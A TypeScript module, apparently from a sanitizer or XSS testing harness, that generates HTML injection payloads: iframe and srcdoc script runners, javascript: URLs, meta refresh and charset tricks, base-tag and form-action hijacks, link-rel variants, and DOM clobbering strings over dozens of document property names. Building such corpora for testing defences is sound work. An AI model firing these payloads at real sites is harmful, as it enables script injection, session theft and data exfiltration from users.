/** Frames, refreshes, bases, forms, links of the head, and names that shadow the DOM. */
import { each } from "./payload";

export const embeds: readonly string[] = [
  "<iframe src={url}></iframe>",
  "<iframe src={//}></iframe>",
  "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
  "<iframe srcdoc='&lt;script&gt;parent.{run}&lt;/script&gt;'></iframe>",
  "<iframe srcdoc='<img src={url}>'></iframe>",
  "<iframe srcdoc='<img src=x onerror=top.{run}>' sandbox='allow-scripts allow-same-origin'></iframe>",
  "<iframe src=about:blank onload={run}></iframe>",
  "<iframe name='{run}' src='javascript:eval(name)'></iframe>",
  "<iframe credentialless src={url}></iframe>",
  "<iframe csp='script-src *' src={url}></iframe>",
  "<iframe src='/'></iframe>",
  "<iframe src='/preview/'></iframe>",
  "<iframe loading=lazy src={url}></iframe>",
  "<frameset onload={run}><frame src={url}></frameset>",
  "<object data={url}></object>",
  "<object data={url} type=image/svg+xml></object>",
  "<object type=text/x-scriptlet data={url}></object>",
  "<object classid=clsid:x codebase={url}></object>",
  "<embed src={url} type=application/x-shockwave-flash allowscriptaccess=always>",
  "<embed code={url}>",
  "<applet archive={url} code=x></applet>",
  "<portal src={url}></portal>",
  "<fencedframe src={url}></fencedframe>",
  "<webview src={url} nodeintegration></webview>",
  "<meta http-equiv=refresh content='0;url={url}'>",
  "<meta http-equiv=refresh content='0;{url}'>",
  "<META HTTP-EQUIV='Refresh' CONTENT=' 0 ; URL = {url} '>",
  "<meta http-equiv=refresh content=\"0;url='{url}'\">",
  "<meta http-equiv=set-cookie content='a=b'>",
  "<meta http-equiv=content-security-policy content='script-src *'>",
  "<meta http-equiv=content-security-policy content=\"default-src 'none'\">",
  "<meta http-equiv=origin-trial content=x>",
  "<meta http-equiv=accept-ch content=x><meta http-equiv=delegate-ch content='x {url}'>",
  "<meta name=referrer content=unsafe-url>",
  "<meta charset=utf-7>",
  "<meta http-equiv=content-type content='text/html;charset=utf-7'>",
  "<base href={url}/><img src=x>",
  "<base href={url}/><script src=x></script>",
  "<base target=_top><a href={url}>x</a>",
  "<base href='javascript:{run}//'>",
  "<form action={url}><input name=a value=b><input type=submit></form>",
  "<form action={url} id=f></form><input form=f name=a autofocus onfocus=f.submit()>",
  "<form action={url} method=dialog><button>x</button></form>",
  "<form target=_top action={url}><button autofocus>x</button></form>",
  "<button formaction={url}>x</button>",
  "<isindex action={url}>",
  "<input type=hidden accesskey=x onclick={run}>",
  "<div popover id=p onbeforetoggle={run}>x</div><button popovertarget=p autofocus>x</button>",
  "<a href={url} ping={url}>x</a>",
  "<a href=x attributionsrc={url}>x</a>",
  "<img src=x attributionsrc={url}>",
  "<a href={url} download>x</a>",
  "<a href='/' target=_top>x</a>",
  "<a href='#' onclick={run}>x</a>",
  "<img src=x crossorigin=use-credentials usemap=#{url}>",
  "<bgsound src={url}>",
  "<keygen autofocus onfocus={run}>",
  "<command icon={url}>",
  "<menuitem icon={url}>",
  "<html manifest={url}>",
  "<body background={url}>",
  "<body onload={run}>",
  "<input type=image src={url}>",
  "<layer src={url}></layer>",
  "<ilayer src={url}></ilayer>",
  "<xml src={url} id=x></xml>",
  "<import src={url}>",
  "<model src={url}></model>",
  "<geolocation onlocation={run}></geolocation>",
  "<permission type=camera onpromptaction={run}></permission>",
];

const relations =
  "stylesheet|alternate stylesheet|preload|prefetch|prerender|preconnect|dns-prefetch|modulepreload|icon|shortcut icon|apple-touch-icon|mask-icon|manifest|import|next|prev|pingback|search|expect|compression-dictionary|subresource|monetization|author".split(
    "|",
  );
const kinds = [
  "",
  " as=script",
  " as=style",
  " as=image imagesrcset='{url}'",
  " as=font crossorigin",
  " as=fetch",
  " media=print onload={run}",
];

export function* headLinks(): Generator<string> {
  for (const [relation, kind] of each(relations, kinds))
    yield `<link rel="${relation}" href="{url}"${kind}>`;
}

const shadowed =
  "body head documentElement querySelector querySelectorAll getElementById getElementsByTagName createElement createTreeWalker importNode adoptNode adoptedStyleSheets defaultView location URL cookie domain title forms images scripts styleSheets activeElement childNodes children firstChild lastChild parentNode nextSibling nodeName nodeType tagName localName attributes getAttribute setAttribute removeAttribute hasAttribute remove appendChild insertBefore replaceChildren isEqualNode cloneNode textContent innerHTML classList className id name style closest matches contains addEventListener dispatchEvent ownerDocument prototype constructor __proto__ toString valueOf length item trustedTypes galley self top parent __ran".split(
    " ",
  );
const shadows = [
  "<img name={n}>",
  "<img id={n} name={n}>",
  "<form name={n}></form>",
  "<form><input name={n}><img src=x onerror={run}></form>",
  "<form><button id={n}></button></form><img src=x onerror={run}>",
  "<a id={n} href='javascript:{run}'></a><a id={n} name=x href='{url}'></a>",
  "<iframe name={n}></iframe>",
  "<object id={n}></object>",
];

export function* clobberings(): Generator<string> {
  for (const [name, shadow] of each(shadowed, shadows))
    yield (shadow ?? "").replaceAll("{n}", name ?? "");
}
